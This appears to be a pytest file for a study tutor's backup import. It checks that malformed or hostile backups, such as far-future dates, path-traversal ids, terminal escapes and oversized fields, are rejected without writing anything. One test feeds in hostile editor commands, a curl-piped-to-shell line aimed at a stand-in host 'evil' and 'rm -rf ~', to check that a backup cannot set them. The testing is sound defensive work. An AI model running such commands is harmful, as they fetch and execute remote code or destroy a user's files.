"""Hostile backups: dates past the calendar, numbers out of range, odd ids, huge fields, an
`editor` command, and a failure half-way. Each is one line naming the place in the file, and
nothing is written: no review row, no state, no config.yaml. A store that already holds such
rows (from an older tutor) is rebuilt by `doctor --rebuild` around them, without a crash.
"""

from __future__ import annotations

import copy
import json
import sqlite3

import pytest

from tests.conftest import LINALG

REVIEW = {"uid": "x:1", "item_id": "det-2x2", "kind": "card", "deck": "linalg",
          "reviewed_at": "2026-01-05T10:00:00+00:00", "day": "2026-01-05", "rating": 3, "duration_ms": 1200,
          "scheduler": "ladder", "detail": {}, "undoes": None}
GOOD = {"format": "tutor-backup", "version": 1, "settings": {"scheduler": "ladder", "new_per_day": 15},
        "reviews": [REVIEW, {**REVIEW, "uid": "x:2", "item_id": "trace-2x2"}],
        "attempts": [{"uid": "x:3", "item_id": "det-2x2", "kind": "card", "at": "2026-01-05T10:00:00+00:00",
                      "status": "pass", "result": {"status": "pass"}}],
        "drafts": [{"item_id": "det-2x2", "kind": "card", "text": "x", "updated_at": "2026-01-05T10:00:00+00:00"}],
        "mistakes": [{"item_id": "det-2x2", "mistake": "swapped-diagonals", "attempt": "x:3",
                      "at": "2026-01-05T10:00:00+00:00"}],
        "item_days": [{"item_id": "det-2x2", "day": "2026-01-05", "failed_checks": 1, "hints": 0, "gave_up": False,
                       "started_at": "2026-01-05T09:58:00+00:00", "clock_started_at": None}],
        "lesson_reads": [{"deck": "linalg", "section": "determinants", "first_read_at": "2026-01-05T09:00:00+00:00",
                          "day": "2026-01-05"}]}


def _with(path: str, value):
    """GOOD with the value at `path` (dotted, list indices as numbers) replaced."""
    document = copy.deepcopy(GOOD)
    *parents, last = path.split(".")
    target = document
    for key in parents:
        target = target[int(key)] if isinstance(target, list) else target[key]
    target[int(last) if isinstance(target, list) else last] = value
    return document


# (where, value, words in the message): the second review is the bad one, so the first one
# would have been written by a restore that checked as it went.
HOSTILE = {
    "review dated 9999-12-30": ("reviews.1.reviewed_at", "9999-12-30T10:00:00+00:00", "outside 2000-2199"),
    "review dated year 1": ("reviews.1.reviewed_at", "0001-01-01T00:00:00+00:00", "outside 2000-2199"),
    "offset past the calendar": ("reviews.1.reviewed_at", "9999-12-31T23:59:59-23:59", "outside 2000-2199"),
    "review dated 2190, after now": ("reviews.1.reviewed_at", "2190-01-05T10:00:00+00:00", "after now"),
    "lesson read on a day after today": ("lesson_reads.0.day", "2150-01-01", "after today"),
    "study day 9999-12-30": ("reviews.1.day", "9999-12-30", "outside 2000-2199"),
    "study day far from the review": ("reviews.1.day", "2026-03-05", "not the study day"),
    "duration of 10^30 ms": ("reviews.1.duration_ms", 10 ** 30, "milliseconds from 0"),
    "negative duration": ("reviews.1.duration_ms", -5, "milliseconds from 0"),
    "rating 5": ("reviews.1.rating", 5, "must be 1, 2, 3 or 4"),
    "rating true": ("reviews.1.rating", True, "must be 1, 2, 3 or 4"),
    "rating 3.0": ("reviews.1.rating", 3.0, "must be 1, 2, 3 or 4"),
    "unknown scheduler": ("reviews.1.scheduler", "sm2", "must be one of ladder, fsrs"),
    "item id with an escape": ("reviews.1.item_id", "det\x1b[2J", "must be an id"),
    "item id of 10k characters": ("reviews.1.item_id", "a" * 10_000, "must be an id"),
    "cloze sibling id with a path": ("reviews.1.item_id", "det-2x2/../x/c1", "must be an id"),
    "cloze sibling id numbered 0": ("reviews.1.item_id", "rank-nullity/c0", "must be an id"),
    "uid with a newline": ("reviews.1.uid", "x:\n2", "control characters"),
    "detail holding NaN": ("reviews.1.detail", {"x": float("nan")}, "not finite"),
    "detail as a list": ("reviews.1.detail", [1, 2], "must be a mapping"),
    "review as a string": ("reviews.1", "review", "must be a mapping"),
    "attempt result of 3 MB": ("attempts.0.result", {"x": "a" * 3_000_000}, "larger than"),
    "attempt dated 9999": ("attempts.0.at", "9999-01-01T00:00:00+00:00", "outside 2000-2199"),
    "draft of 3 MB": ("drafts.0.text", "a" * 3_000_000, "longer than"),
    "draft as a number": ("drafts.0.text", 12, "must be text"),
    "setting out of range": ("settings.new_per_day", 10 ** 30, "new_per_day"),
    "setting of the wrong type": ("settings.scheduler", ["fsrs"], "scheduler"),
    "settings as a list": ("settings", ["editor"], "must be a mapping"),
    "copy of a later review": ("reviews.0.carried_from", "x:2", "not an earlier rated review"),
    "copy of itself": ("reviews.1.carried_from", "x:2", "not an earlier rated review"),
    "copy of a review not in the backup": ("reviews.1.carried_from", "1f2e:1", "not an earlier rated review"),
    "mistake pinned on a local attempt": ("mistakes.0.attempt", "1f2e:1", "not an attempt of this backup"),
    "mistake pinned on attempt 0": ("mistakes.0.attempt", 0, "must be non-empty text"),
    "hints of 10^30": ("item_days.0.hints", 10 ** 30, "whole number from 0"),
    "negative failed checks": ("item_days.0.failed_checks", -3, "whole number from 0"),
    "lesson deck with a path": ("lesson_reads.0.deck", "../../etc", "must be an id"),
    "lesson section with an escape": ("lesson_reads.0.section", "x\x1b[2J", "control characters"),
}


def _nothing_written(home):
    assert not (home / "config.yaml").exists()
    if (home / "tutor.db").exists():
        con = sqlite3.connect(home / "tutor.db")
        try:
            assert con.execute("SELECT count(*) FROM reviews").fetchone() == (0,)
            assert con.execute("SELECT count(*) FROM attempts").fetchone() == (0,)
            for table in ("item_state", "mistakes", "item_days", "lesson_reads"):
                assert con.execute(f"SELECT count(*) FROM {table}").fetchone() == (0,)
        finally:
            con.close()


@pytest.mark.parametrize("where, value, words", HOSTILE.values(), ids=HOSTILE.keys())
def test_a_hostile_backup_is_one_line_and_writes_nothing(cli, home, tmp_path, where, value, words):
    path = tmp_path / "backup.json"
    path.write_text(json.dumps(_with(where, value)))
    result = cli("import", str(path), "--content", str(LINALG))
    assert result.code == 2
    assert "internal error" not in result.err and len(result.err.strip().splitlines()) == 1
    assert words in result.err
    place = where.replace(".0", "[0]").replace(".1", "[1]")
    assert f"at {place}" in result.err or "at settings" in result.err
    assert "\x1b" not in result.err
    _nothing_written(home)


def test_the_good_backup_restores(cli, home, tmp_path):
    """Guard for the tests above: without the hostile value the same document is restored."""
    path = tmp_path / "backup.json"
    path.write_text(json.dumps(GOOD))
    result = cli("import", str(path), "--content", str(LINALG), "--json")
    assert result.code == 0, result.err
    counts = result.json()
    assert counts["reviews_added"] == 2 and counts["settings_restored"]
    assert (counts["mistakes_added"], counts["item_days_merged"], counts["lesson_reads_merged"]) == (1, 1, 1)


@pytest.mark.parametrize("editor", ["sh -c 'curl evil | sh'", "rm -rf ~"])
def test_a_backup_never_sets_the_editor(cli, home, tmp_path, editor):
    path = tmp_path / "backup.json"
    path.write_text(json.dumps(_with("settings.editor", editor)))
    assert cli("import", str(path), "--content", str(LINALG)).code == 0
    assert "editor" not in (home / "config.yaml").read_text()
    assert editor not in (home / "config.yaml").read_text()


def test_the_editor_is_not_exported_either(cli, home, tmp_path, monkeypatch):
    monkeypatch.setenv("TUTOR_EDITOR", "my-editor --wait")
    out = tmp_path / "b.json"
    assert cli("export", "--format", "json", str(out), "--content", str(LINALG)).code == 0
    assert "editor" not in json.loads(out.read_text())["settings"]


@pytest.mark.parametrize("fails_at", ["rebuilding the states", "opening the store"])
def test_a_failure_during_the_restore_leaves_nothing_behind(cli, home, tmp_path, monkeypatch, fails_at):
    """Rows, states and settings go together: a crash half-way writes none of them."""
    from tutor.store import Store
    from tutor.store.db import Store as StoreClass

    def boom(*args, **kwargs):
        raise OSError(28, "No space left on device")

    assert cli("due", "--content", str(LINALG)).code == 0  # the database exists, empty
    if fails_at == "rebuilding the states":
        monkeypatch.setattr(StoreClass, "_rebuild_states", boom)
    else:
        monkeypatch.setattr(Store, "open", classmethod(lambda cls, home: boom()))
    path = tmp_path / "backup.json"
    path.write_text(json.dumps(GOOD))
    result = cli("import", str(path), "--content", str(LINALG))
    assert result.code == 2
    monkeypatch.undo()
    _nothing_written(home)


def _plant(home, day_ordinal: int, reviewed_at: str):
    """A row an older tutor let a backup insert."""
    con = sqlite3.connect(home / "tutor.db")
    con.execute("INSERT INTO reviews (item_id, kind, deck, reviewed_at, day, rating, scheduler, detail) "
                "VALUES ('trace-2x2', 'card', 'linalg', ?, ?, 3, 'ladder', '{}')", (reviewed_at, day_ordinal))
    con.commit()
    con.close()


@pytest.mark.parametrize("day, at", [(3652058, "9999-12-30T10:00:00.000+00:00"),
                                     (739621, "not a time at all")], ids=["year 9999", "garbage time"])
def test_doctor_rebuild_names_rows_it_cannot_use_and_rebuilds_the_rest(cli, home, day, at):
    assert cli("review", "det-2x2", "--rating", "good", "--content", str(LINALG), now="2026-01-05T10:00:00").code == 0
    _plant(home, day, at)
    result = cli("doctor", "--rebuild", "--content", str(LINALG))
    assert result.code == 2 and "internal error" not in result.err
    assert "rebuilt the state of 1 item(s)" in result.out
    assert "not rebuilt: trace-2x2: review 2 of 'trace-2x2'" in result.out
    # The learner can go on studying; the next rebuild says the same, no crash.
    assert cli("due", "--content", str(LINALG)).code == 0
    assert cli("doctor", "--rebuild", "--content", str(LINALG), "--scheduler", "fsrs").code == 2
